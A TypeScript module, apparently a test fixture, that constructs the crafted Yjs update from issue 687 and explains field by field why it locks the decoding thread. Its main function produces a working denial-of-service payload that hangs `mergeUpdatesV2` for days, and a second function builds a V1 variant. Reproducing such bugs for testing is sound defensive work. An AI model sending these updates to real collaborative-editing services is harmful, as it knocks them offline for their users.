/**
 * Yjs updates crafted to abuse run-length encoding: yjs issue 687, "Denial of Service
 * vulnerability: run-length encoding can be exploited to lock JS threads" (open as of yjs 13.6.33).
 *
 * A V2 update stores struct fields in separate columns, most of them run-length encoded by lib0.
 * Those decoders never report the end of their column: `RleDecoder` keeps returning its last value
 * once its bytes run out ("read the current value forever"), and `UintOptRleDecoder` reads an
 * empty column as 0, again and again. The number of structs, however, is a plain varuint in the
 * rest of the update. So a few bytes can declare trillions of structs, each of which decodes from
 * the columns for free, and a decoder that believes the count loops for as long as it says.
 */
import * as encoding from 'lib0/encoding';

/** The struct count the issue's update declares for its third client: a varuint of 6 bytes. */
export const ISSUE_687_STRUCT_COUNT = 2 ** 42 - 3;

/**
 * The update from yjs issue 687 that hangs `Y.mergeUpdatesV2([emptyUpdateV2, it])`, built field
 * by field (byte for byte the issue's `00010000000001000100010200001602000001fdffffffff7f0000`
 * with the default count). A smaller `structCount` makes a finite version of the same input.
 *
 * Why it hangs: `mergeUpdatesV2` reads structs through a lazy generator, one at a time, so it never
 * allocates for the declared count — it just iterates it. Every struct is a GC of length 0 at
 * clock 0 and costs no input, so the decoder never runs out of bytes to stop it; at about 50 ns a
 * struct, 2^42 of them keep the thread busy for days. (`Y.applyUpdateV2` is spared by accident:
 * it first does `new Array(count)`, which throws `RangeError: Invalid array length` above 2^32 - 1.
 * `Y.decodeUpdateV2` collects the structs in an array instead, and so fills memory.)
 */
export function issue687UpdateV2(structCount: number = ISSUE_687_STRUCT_COUNT): Uint8Array {
  const e = encoding.createEncoder();
  encoding.writeVarUint(e, 0); // feature flag, unused
  // The columns of `UpdateDecoderV2`, each a length-prefixed byte array, in the order it reads them.
  const column = (...bytes: number[]) => encoding.writeVarUint8Array(e, Uint8Array.from(bytes));
  column(0); // key clocks: never read, GC structs have no map key
  column(); // clients: empty, so `UintOptRleDecoder` reads client 0 every time
  column(); // left origin clocks: never read
  column(); // right origin clocks: never read
  // Struct kinds: a single 0 (GC) and no run length after it. `RleDecoder` then sets its count
  // to -1, and decrementing never brings it back to 0: every struct is a GC, forever.
  column(0);
  column(0); // strings: an empty string table
  column(2); // parent info: never read, GC structs have no parent
  column(); // type refs: never read
  column(); // lengths: empty, so every GC has length 0 and the clock never advances
  // The rest of the update, read as plain varuints: struct counts and starting clocks per client.
  encoding.writeVarUint(e, 22); // client groups declared; decoding never gets past the third
  encoding.writeVarUint(e, 2); // group 1: 2 structs (client from the column: 0) …
  encoding.writeVarUint(e, 0); // … from clock 0
  encoding.writeVarUint(e, 0); // group 2: no structs …
  encoding.writeVarUint(e, 1); // … from clock 1
  encoding.writeVarUint(e, structCount); // group 3: the crafted count, all free zero-length GCs …
  encoding.writeVarUint(e, 0); // … from clock 0
  encoding.writeVarUint(e, 0); // never reached with the default count (group 4's struct count)
  return encoding.toUint8Array(e);
}

/**
 * The V1 analogue: one client that declares `structCount` structs, then `zeroLengthGcs` of them
 * spelled out, then nothing. A V1 update has no columns — `UpdateDecoderV1` reads every field from
 * the one byte stream, and `readVarUint` throws at its end — so each struct costs input (a GC of
 * length 0 takes two bytes: its kind and its length) and decoding stops with "Unexpected end of
 * array" when the bytes do. Above 2^32 - 1, `Y.applyUpdate` throws even earlier, allocating
 * `new Array(structCount)`.
 */
export function structCountBombV1(structCount: number, zeroLengthGcs = 3): Uint8Array {
  const e = encoding.createEncoder();
  encoding.writeVarUint(e, 1); // one client group
  encoding.writeVarUint(e, structCount);
  encoding.writeVarUint(e, 0); // client
  encoding.writeVarUint(e, 0); // first clock
  for (let i = 0; i < zeroLengthGcs; i++) {
    encoding.writeUint8(e, 0); // kind: GC
    encoding.writeVarUint(e, 0); // length 0
  }
  return encoding.toUint8Array(e);
}
